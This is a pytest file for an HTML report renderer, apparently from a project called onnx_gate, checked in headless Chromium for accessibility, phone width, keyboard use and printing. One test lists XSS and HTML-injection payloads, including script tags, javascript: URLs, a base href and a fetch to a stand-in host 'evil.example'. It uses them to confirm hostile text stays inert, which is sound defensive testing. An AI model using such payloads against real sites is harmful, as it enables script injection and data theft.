"""The page in a real browser: legible to all, usable by keyboard, whole on paper, and nothing in it lives.

Chromium has to be on PATH, and axe-core where ``make test`` puts it; without them these tests are
skipped and say so.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from onnx_gate.pages import page as page_of
from onnx_gate.report.model import Report
from onnx_gate.report.render import html
from onnx_gate.text import plain
from tests.support.report.everything import all_replaced, everything
from tests.support.report.hostile import HTML
from tests.support.report.pages import drawn, many, several_runtimes
from tests.support.report.scenes import invalid, passing
from tools.browser import Browser, Page, browser, missing, missing_packages

pytestmark = [
    pytest.mark.process,
    pytest.mark.skipif(bool(missing()), reason=missing() or "Chromium is there"),
]
PAGES: dict[str, Callable[[], Report]] = {
    "diverged": drawn,
    "passed": passing,
    "error": invalid,
    "several runtimes": several_runtimes,
    "everything": everything,
    "200 models": lambda: many(200, checks=2, failing=2),
}
PHONE = 360
VIEWS = ((1280, False), (1280, True), (PHONE, False), (PHONE, True))


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as running:
        yield running


def shown(chromium: Browser, report: Report, folder: Path, width: int = 1280) -> Page:
    file = folder / "report.html"
    file.write_text(html.render(report), encoding="utf-8")
    page = chromium.page(width)
    page.open(file)
    return page


@pytest.mark.skipif(bool(missing_packages()), reason=missing_packages() or "axe-core is there")
@pytest.mark.parametrize("name", PAGES)
def test_axe_finds_nothing(name: str, chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, PAGES[name](), tmp_path)
    views = {"diverged": VIEWS, "200 models": VIEWS[-1:]}.get(name, VIEWS[::3])
    for width, dark in views:
        page.resize(width)
        page.media(dark=dark)
        found = [(v["id"], [n["html"][:200] for n in v["nodes"][:3]]) for v in page.axe()]
        assert found == [], f"{width} px, {'dark' if dark else 'light'}"


@pytest.mark.parametrize("name", PAGES)
def test_nothing_is_wider_than_a_phone(name: str, chromium: Browser, tmp_path: Path) -> None:
    """Tables scroll in themselves; the page does not."""
    page = shown(chromium, PAGES[name](), tmp_path, PHONE)
    page.ask("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert page.ask("document.documentElement.scrollWidth") <= PHONE


FOCUSED = """(() => {
  const at = document.activeElement, ring = at.matches('input') ? at.nextElementSibling : at
  const style = getComputedStyle(ring)
  return [at.tagName, (at.getAttribute('aria-label') || ring.innerText || '').slice(0, 40),
          style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2]
})()"""


def test_the_keyboard_reaches_everything_in_order(chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, drawn(), tmp_path)
    stops = []
    for _ in range(12):
        page.press("Tab")
        tag, label, visible = page.ask(FOCUSED)
        assert visible, f"no outline on {tag} {label}"
        stops.append((tag, label))
    assert stops[0] == ("INPUT", "All 6")
    assert stops[1] == ("DIV", "All models")
    assert next(label for tag, label in stops if tag == "A") == "whisper"
    assert [tag for tag, _ in stops[2:8]] == ["A"] * 6
    assert stops[8][0] == "SUMMARY"
    assert stops[8][1].startswith("whisper")


def test_the_filter_works_by_keyboard(chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, drawn(), tmp_path)
    rows = "[...document.querySelectorAll('tr.model')].filter(r => r.checkVisibility()).length"
    cards = (
        "[...document.querySelectorAll('details.model')].filter(r => r.checkVisibility()).length"
    )
    assert (page.ask(rows), page.ask(cards)) == (6, 6)
    page.press("Tab")
    seen = {}
    for _ in range(5):
        page.press("ArrowRight")
        label = page.ask("document.activeElement.nextElementSibling.innerText")
        seen[label] = (page.ask(rows), page.ask(cards))
    assert {label: (int(label.split()[-1]),) * 2 for label in seen} == seen
    assert len(seen) == 5


def test_folds_open_by_keyboard_and_by_link(chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, drawn(), tmp_path)
    card = "document.querySelector('#model-unet').closest('details').open"
    assert not page.ask(card)
    page.ask(
        "document.querySelector('#model-unet').closest('details').querySelector('summary').focus()"
    )
    page.press("Enter")
    assert page.ask(card)
    page.press("Enter")
    assert not page.ask(card)
    page.ask("document.querySelector('a[href=\"#model-unet\"]').focus()")
    page.press("Enter")
    assert page.ask(card), "the address of a folded model opens it"
    assert page.ask("location.hash") == "#model-unet"


def test_paper_has_no_folds(chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, drawn(), tmp_path)
    folded = """[...document.querySelectorAll('details:not([open])')]
      .filter(d => !d.querySelector(':scope > :not(summary)').checkVisibility()).length"""
    assert page.ask(folded) > 0
    page.media(kind="print")
    assert page.ask(folded) == 0
    assert not page.ask("document.querySelector('fieldset').checkVisibility()")


LIVE = [
    "<script>document.title = 'pwned'; fetch('https://evil.example')</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script><style>",
    "</desc></svg><img src=https://evil.example/x.png onerror=alert(1)>",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "'\"--></pre></summary><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "*{background:url(https://evil.example/x.png)} @import 'https://evil.example'",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "\u202ex\u2066 <plaintext>",
    *HTML[::6],
]
LOADED = "script,iframe,img,object,embed,link,base,audio,video,meta[http-equiv=refresh],animate"


@pytest.mark.parametrize("text", LIVE, ids=lambda text: ascii(text)[1:30])
def test_hostile_text_is_text(text: str, chromium: Browser, tmp_path: Path) -> None:
    page = shown(chromium, all_replaced(text), tmp_path)
    page.ask("document.querySelectorAll('details').forEach(d => d.open = true)")
    hrefs = page.ask("[...document.querySelectorAll('[href]')].map(a => a.getAttribute('href'))")
    assert all(href.startswith(("#model-", page_of("findings"))) for href in hrefs)
    assert page.ask(f"document.querySelectorAll({json.dumps(LOADED)}).length") == 0
    assert page.ask("document.querySelectorAll('*').length") == elements(chromium, tmp_path)
    assert page.requests() == []
    assert page.complaints() == []
    words = " ".join(plain(text, 60).split())
    assert words in " ".join(page.ask("document.body.textContent").split()), "nothing is lost"


def elements(chromium: Browser, folder: Path) -> int:
    if not _ELEMENTS:
        page = shown(chromium, everything(), folder)
        _ELEMENTS.append(page.ask("document.querySelectorAll('*').length"))
    return _ELEMENTS[0]


_ELEMENTS: list[int] = []


def test_very_long_words_neither_widen_the_page_nor_fill_it(
    chromium: Browser, tmp_path: Path
) -> None:
    page = shown(chromium, all_replaced("x" * 100_000), tmp_path, PHONE)
    page.ask("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert page.ask("document.documentElement.scrollWidth") <= PHONE
    assert (tmp_path / "report.html").stat().st_size < 1_000_000
